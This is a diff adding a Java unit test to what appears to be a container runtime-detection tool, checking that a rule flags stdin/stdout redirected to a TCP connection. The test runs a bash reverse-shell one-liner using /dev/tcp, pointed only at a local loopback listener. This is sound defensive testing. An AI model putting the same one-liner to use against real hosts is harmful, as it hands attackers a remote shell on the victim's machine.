@@ -77,4 +77,37 @@ class PipelineTest {
         // the upstream rules none of the 30 creations under a temporary directory can match.
         assertTrue(stops[0] - stops[1] >= 30, "stops without policies " + stops[0] + ", with " + stops[1]);
     }
+
+    @Test
+    void aReverseShellRedirectingStdoutToATcpConnectionIsCaught() throws Exception {
+        var container = new dev.peregrine.rules.event.ContainerRecord("0123456789ab", "app", "nginx:1.27", "nginx",
+                "1.27", null, false, 0L, null, null, null);
+        Detector rules = new Detector(Agent.loadRules(List.of(Run.upstreamRules())), Policies.NOTIFY_ALL);
+        try (var server = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
+            Thread.ofVirtual().start(() -> {
+                try (var peer = server.accept()) {
+                    peer.getInputStream().readAllBytes();
+                } catch (java.io.IOException ignored) {
+                    // the shell went away
+                }
+            });
+            int port = server.getLocalPort();
+            Supervisor sup = new Supervisor();
+            Pipeline p = new Pipeline(Workload.UNKNOWN, container, "test-host", sink, sup, new SelfProtection(-2), 10);
+            p.install(rules);
+            var traps = TrapPlan.connected(rules.eventTypes());
+            // The classic one-liner: a TCP connection becomes the shell's stdout and stdin.
+            sup.start(LaunchSpec.of(List.of("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec 1>&3 0<&3; echo hi"),
+                    traps), p, TrapPlan.exitHookedAnyway(traps));
+            assertEquals(0, sup.awaitExit(Duration.ofSeconds(20)));
+            List<Alert> redirects = alerts.stream()
+                    .filter(a -> a.rule().equals("Redirect STDOUT/STDIN to Network Connection in Container")).toList();
+            assertEquals(2, redirects.size(), alerts.toString());
+            Alert first = redirects.getFirst();
+            assertTrue(first.output().contains("connection=127.0.0.1:"), first.output());
+            assertTrue(String.valueOf(first.outputFields().get("fd.name")).endsWith("->127.0.0.1:" + port), first.toString());
+            assertEquals(port, ((Number) first.outputFields().get("fd.rport")).intValue());
+            assertEquals("tcp", first.outputFields().get("fd.l4proto"));
+        }
+    }
 }
